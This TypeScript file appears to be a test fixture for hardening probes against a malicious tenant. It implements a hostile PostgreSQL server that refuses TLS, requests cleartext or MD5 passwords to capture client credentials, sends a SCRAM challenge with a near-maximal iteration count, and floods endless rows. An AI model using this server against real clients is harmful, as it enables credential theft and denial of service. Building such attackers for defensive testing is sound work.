/**
 * A server that speaks just enough of PostgreSQL's protocol to attack a client: it answers the
 * startup message with the password request of its choice and records every byte the client
 * sends after it. What a tenant's own image can do to the operator's probes.
 */
import { AddressInfo, Server, Socket, createServer } from "node:net";

export type Attack =
  /** AuthenticationCleartextPassword: the password itself would come back. */
  | "cleartext"
  /** AuthenticationMD5Password: a hash of it would. */
  | "md5"
  /** SCRAM-SHA-256 with an iteration count of 2^31 - 1: minutes of PBKDF2 on the client. */
  | "scram-iterations"
  /** Lets the client in (trust), then answers any query with rows without end. */
  | "flood";

const int32 = (n: number): Buffer => {
  const b = Buffer.alloc(4);
  b.writeInt32BE(n);
  return b;
};

/** A backend message: its type, its length, its payload. */
const message = (type: string, payload: Buffer): Buffer =>
  Buffer.concat([Buffer.from(type), int32(4 + payload.length), payload]);

/** An authentication message ('R'): its code, then the payload. */
const auth = (code: number, payload: Buffer = Buffer.alloc(0)): Buffer =>
  Buffer.concat([Buffer.from("R"), int32(8 + payload.length), int32(code), payload]);

const SSL_REQUEST = 80877103;

export class HostileServer {
  private readonly server: Server;
  /** What clients sent after the first password request, per connection. */
  readonly received: Buffer[] = [];
  /** Connections already sent the SCRAM challenge (or the flood). */
  private readonly challenged = new Set<number>();
  /** Bytes of rows the flood got written to its sockets. */
  flooded = 0;

  private constructor(private readonly attack: Attack) {
    this.server = createServer(socket => this.serve(socket));
  }

  static async start(attack: Attack): Promise<HostileServer> {
    const hostile = new HostileServer(attack);
    await new Promise<void>(resolve => hostile.server.listen(0, "127.0.0.1", resolve));
    return hostile;
  }

  get port(): number {
    return (this.server.address() as AddressInfo).port;
  }

  async stop(): Promise<void> {
    await new Promise<void>(resolve => this.server.close(() => resolve()));
  }

  private serve(socket: Socket): void {
    socket.on("error", () => undefined);
    const index = this.received.push(Buffer.alloc(0)) - 1;
    let buffered = Buffer.alloc(0);
    let asked = false;
    socket.on("data", (chunk: Buffer) => {
      if (asked) {
        this.received[index] = Buffer.concat([this.received[index], chunk]);
        this.onClientMessage(socket, index);
        return;
      }
      buffered = Buffer.concat([buffered, chunk]);
      if (buffered.length < 8 || buffered.length < buffered.readInt32BE(0)) return;
      if (buffered.readInt32BE(4) === SSL_REQUEST) {
        buffered = buffered.subarray(8);
        socket.write("N"); // no TLS here: the client goes on in plaintext, or hangs up
        return;
      }
      asked = true;
      socket.write(this.request());
    });
  }

  private request(): Buffer {
    switch (this.attack) {
      case "cleartext":
        return auth(3);
      case "md5":
        return auth(5, Buffer.from([1, 2, 3, 4]));
      case "scram-iterations":
        return auth(10, Buffer.from("SCRAM-SHA-256\0\0"));
      case "flood":
        return Buffer.concat([auth(0), message("Z", Buffer.from("I"))]);
    }
  }

  /** Flood: a row description, then 64 KiB rows for as long as the client reads them. */
  private flood(socket: Socket): void {
    const column = Buffer.concat([
      Buffer.from("x\0"),
      Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 0, 25, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 0]),
    ]);
    socket.write(message("T", Buffer.concat([Buffer.from([0, 1]), column])));
    const value = Buffer.alloc(64 * 1024, "x");
    const row = message("D", Buffer.concat([Buffer.from([0, 1]), int32(value.length), value]));
    const more = (): void => {
      while (!socket.destroyed && socket.write(row)) this.flooded += row.length;
      if (!socket.destroyed) socket.once("drain", more);
    };
    more();
  }

  /** SCRAM: the client's first message carries its nonce; answer with a huge iteration count. */
  private onClientMessage(socket: Socket, index: number): void {
    if (this.attack === "flood") {
      if (!this.challenged.has(index)) {
        this.challenged.add(index);
        this.flood(socket);
      }
      return;
    }
    if (this.attack !== "scram-iterations" || this.challenged.has(index)) return;
    const nonce = /r=([^,\0]+)/.exec(this.received[index].toString("latin1"))?.[1];
    if (!nonce) return; // not all of it yet
    this.challenged.add(index);
    const first = `r=${nonce}hostile,s=${Buffer.from("salt").toString("base64")},i=2147483647`;
    socket.write(auth(11, Buffer.from(first)));
  }
}
